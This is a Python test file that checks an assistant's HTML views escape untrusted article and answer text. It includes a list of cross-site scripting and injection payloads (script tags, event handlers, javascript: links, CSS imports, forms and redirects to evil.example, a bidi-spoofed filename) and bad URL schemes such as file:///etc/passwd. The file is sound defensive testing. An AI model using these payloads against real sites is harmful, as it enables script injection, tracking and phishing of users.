"""Untrusted text to HTML: nothing becomes markup, and every character of an article stays."""

from __future__ import annotations

from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from scripted import (
    ARTICLES,
    GALE,
    ScriptedAssistant,
    abstained,
    answered,
    cite,
    conflicting,
    hostile,
)

from assistant.addresses import short_address, web_address
from assistant.records import Answer
from assistant.ui.answers import failed_turn, finished_turn, growing_turn
from assistant.ui.article_page import article_fragment
from assistant.ui.conversations import Listed, Turn, now
from assistant.ui.front import conversation_list, masthead, welcome
from assistant.ui.markup import esc, prose
from assistant.ui.shelf import Scope, health_view, progress_view, report_view, scope_line, shelf
from assistant.ui.timeline import timeline
from assistant.ui.transcript import turn_as_markdown
from index.records import Article, Failure, IngestReport, Problem

ALLOWED = {
    *(
        "a",
        "article",
        "aside",
        "b",
        "bdi",
        "blockquote",
        "button",
        "code",
        "details",
        "div",
        "figure",
    ),
    *("footer",),
    *("form", "h1", "h2", "h3", "header", "input", "label", "li", "line", "mark", "option", "p"),
    *("path", "progress", "rect", "section", "select", "span", "summary", "svg", "text", "time"),
    *("title", "ul"),
}
PAYLOADS = (
    "<script>window.__pwned=1</script>",
    "\"><img src=x onerror='window.__pwned=1'>",
    "'><svg/onload=window.__pwned=1>",
    "</textarea></title><script>window.__pwned=1</script>",
    "javascript:window.__pwned=1",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'>",
    '<a href="javascript:window.__pwned=1">x</a>',
    "![x](https://evil.example/track.png)",
    "${window.__pwned=1}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "`-window.__pwned=1-`",
    '" onmouseover="window.__pwned=1" x="',
    "<math><mtext></table><mglyph><style><!--</style><img src=x onerror=window.__pwned=1>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>Log in again</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "\u202egnp.exe\u202c<b>bold</b>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "<scr\x00ipt>window.__pwned=1</script>",
)


class Reader(HTMLParser):
    """Collects tags, attributes and text as a browser would find them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def read(markup: str) -> Reader:
    reader = Reader()
    reader.feed(markup)
    reader.close()
    return reader


def assert_harmless(markup: str) -> None:
    for tag, attributes in read(markup).tags:
        assert tag in ALLOWED, tag
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in ("src", "srcset", "style", "srcdoc", "action"), (tag, name)
            if name == "href":
                assert (value or "").startswith(("/article/", "/conversation/", "http")), value


def everything(text: str) -> str:
    """Every view, with `text` in every place that untrusted text can reach."""
    article = Article(article_id=text, uri=text, title=text, outlet=text, text=f"{text} {text}",
                      authors=(text,), date_note=text)  # fmt: skip
    citation = replace(
        cite(1, "gale", "No injuries were known."), title=text, outlet=text, uri=text, quote=text,
        article_id=text,
    )  # fmt: skip
    answers = [
        replace(make(text), text=f"{text} [1]", short=text, reason=text, notice=text, backend=text,
                standalone_question=text, citations=(citation,), nearest=(citation,))
        for make in (answered, conflicting, abstained, hostile)
    ]  # fmt: skip
    turns = [Turn(question=text, answer=answer, asked_at=now()) for answer in answers]
    failure = Failure(source=text, reason=text)
    return "".join(
        [
            *(finished_turn(turn, 0, lambda _: article) for turn in turns),
            growing_turn(text, text, 0),
            failed_turn(text, text, 0),
            article_fragment(article, 0, 3),
            shelf([article], scope=Scope()),
            scope_line([article], Scope(outlets=(text,))),
            report_view(IngestReport(added=(text,), failed=(failure,))),
            progress_view(1, 2, text),
            health_view([Problem(code=text, message=text, remedy=text)], articles=1),
            health_view([], articles=1, lost=[Problem(code=text, message=text, remedy=text)]),
            masthead([article]),
            welcome([article], [text]),
            timeline([article, ARTICLES[0]]),
            conversation_list(
                [Listed(conversation_id="0" * 16, title=text, turns=1, changed=0.0)], None
            ),
        ]
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_stays_text_wherever_it_stands(payload: str) -> None:
    assert_harmless(everything(payload))


@settings(max_examples=40, deadline=None)
@given(st.text(max_size=80))
def test_any_text_stays_text(text: str) -> None:
    assert_harmless(everything(text))


@given(
    st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"]), max_size=200)
)
def test_an_article_page_keeps_every_visible_character(text: str) -> None:
    article = replace(ARTICLES[0], text=text)
    shown = read(article_fragment(article)).text
    for line in text.split("\n"):
        if line.strip():
            assert esc(line) in article_fragment(article) or line in shown


@given(st.data())
def test_the_marked_text_of_an_article_is_the_quote(data: st.DataObject) -> None:
    start = data.draw(st.integers(0, len(GALE) - 1))
    end = data.draw(st.integers(start + 1, len(GALE)))
    article = ARTICLES[1]
    page = article_fragment(article, start, end)
    marked = "".join(part.partition("</mark>")[0] for part in page.split("<mark")[1:])
    marked = read(
        "".join(f"<mark{p.partition('</mark>')[0]}" for p in page.split("<mark")[1:])
    ).text
    assert marked == GALE[start:end].replace("\n", "")


def test_offsets_out_of_range_mark_nothing() -> None:
    for start, end in ((-1, 5), (5, 5), (9, 2), (0, 10**9), (None, 3)):
        assert "<mark" not in article_fragment(ARTICLES[0], start, end)


def test_markers_link_to_their_citations_and_unknown_ones_are_dropped() -> None:
    cited = {1: cite(1, "gale", "No injuries were known.")}
    shown = read(prose("Nobody was hurt [1][7]. Not [1, 9] a list [x].", cited))
    links = [attributes["href"] for tag, attributes in shown.tags if tag == "a"]
    assert len(links) == 2
    assert links[0] is not None
    assert links[0].startswith("/article/gale?start=")
    assert "7" not in shown.text
    assert "[x]" in shown.text


def test_remote_images_of_a_model_are_dropped() -> None:
    assert "evil" not in prose("So it is. ![x](https://evil.example/x.png)", {})


def test_only_plain_web_addresses_become_links() -> None:
    assert web_address("https://example.org/a") == "https://example.org/a"
    for bad in (
        "javascript:alert(1)",
        "file:///etc/passwd",
        "data:text/html,x",
        "https://",
        "x",
        "//a",
    ):
        assert web_address(bad) is None
    assert short_address("file:///home/someone/news/a%20b.md") == "a b.md"
    assert short_address("https://example.org/a") == "example.org"


def test_a_removed_article_leaves_its_quote() -> None:
    turn = Turn(question="x", answer=answered("x"), asked_at=now())
    shown = finished_turn(turn, 0, lambda _: None)
    assert shown.count("no longer in the index") == 1
    assert shown.count("<mark>") == 2
    assert "eleven weeks of repairs" in shown


def _shown(answer: Answer) -> Reader:
    turn = Turn(question="x", answer=answer, asked_at=now())
    by_id = {article.article_id: article for article in ARTICLES}
    return read(finished_turn(turn, 0, by_id.get))


def _count(shown: Reader, name: str) -> int:
    return sum(name in (attributes.get("class") or "").split() for _, attributes in shown.tags)


def test_answers_to_two_questions_in_one_have_the_same_rank() -> None:
    two = "Who opened it? – Ines Calder [1]\nWhen was it opened? – The articles do not tell."
    shown = _shown(answered("x", text=two))
    assert (_count(shown, "asked"), _count(shown, "lead")) == (2, 2)
    one = "Ines Calder [1]\n\nWhy? – she asked. It reopened on Monday [2]."
    assert _count(_shown(answered("x", text=one)), "lead") == 1


def test_only_the_reason_of_a_refusal_is_its_headline() -> None:
    reason = "The articles of St. Ives do not tell. Articles of others do: “Gale” (7 May 2021)."
    turn = Turn(question="x", answer=replace(abstained("x"), reason=reason), asked_at=now())
    shown = finished_turn(turn, 0, lambda _: None)
    assert '<p class="lead" dir="auto">The articles of St. Ives do not tell.</p>' in shown
    assert '<p dir="auto">Articles of others do: “Gale” (7 May 2021).</p>' in shown


def test_an_article_has_one_card_whatever_is_cited_of_it() -> None:
    quotes = ("Engineers replaced both hydraulic rams and 214 metres of rail.",
              "The work cost 3.2 million crowns, of which the county pays half.",
              "of which the county pays half.")  # fmt: skip
    cited = [cite(number, "bridge", quote) for number, quote in enumerate(quotes, 1)]
    cited.append(cite(4, "gale", "No injuries were known."))
    shown = _shown(answered("x", text="So [1][2][3][4].", citations=tuple(cited)))
    names = [tag for tag, _ in shown.tags]
    assert names.count("article") == 2
    assert names.count("mark") == 4
    # Two sentences of one paragraph share it; what lies within another stands alone.
    assert names.count("blockquote") == 3
    numbered = [a["data-card"] for tag, a in shown.tags if tag == "article"]
    assert numbered == ["1 2 3", "4"]


def test_a_copied_answer_carries_its_sources() -> None:
    copied = turn_as_markdown(Turn(question="x", answer=answered("x"), asked_at=now()))
    assert copied.startswith("06:00 on Monday (31 May 2021) [1]")
    assert "[2] Ellery swing bridge reopens. Coast Courier, 31 May 2021. “Two ferries" in copied


def test_the_timeline_spans_days_months_or_years() -> None:
    few = timeline(ScriptedAssistant().articles())
    assert few.count("<rect") == 2
    assert 'data-since="2021-11-01" data-until="2021-11-30"' in few
    assert "1 without a date" in few
    assert timeline([]) == ""
    old = [replace(ARTICLES[0], published=ARTICLES[0].published.replace(year=y))  # type: ignore[union-attr]
           for y in (1871, 2021)]  # fmt: skip
    assert 'data-since="1871-01-01" data-until="1871-12-31"' in timeline(old)
    assert timeline([ARTICLES[0]]).count("<rect") == 1
